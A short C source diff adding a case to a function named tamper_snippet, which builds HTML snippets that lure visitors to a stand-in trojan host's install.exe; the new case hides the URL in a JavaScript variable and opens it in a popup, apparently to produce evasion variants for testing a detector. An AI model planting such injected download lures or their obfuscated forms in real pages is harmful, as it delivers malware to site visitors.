@@ -199,6 +199,10 @@ const char *tamper_snippet(void)
 			"is out of date and cannot show this page.<br><a href=\"http://" TROJAN_HOST "/install.exe\">Install the "
 			"update now</a></div>\n");
 		break;
+	case STYLE_VAR_URL: /* no call names the URL: a variable holds it */
+		buf_puts(&b, "<script type=\"text/javascript\">var u = \"http://" TROJAN_HOST "/install.exe\"; "
+			"window.open(u, \"_blank\", \"width=400,height=300\");</script>\n");
+		break;
 	case STYLE_CHAR_REFS: /* the scheme as decimal character references */
 		buf_puts(&b, "<iframe src=\"");
 		for (const char *p = "http://"; *p; p++)
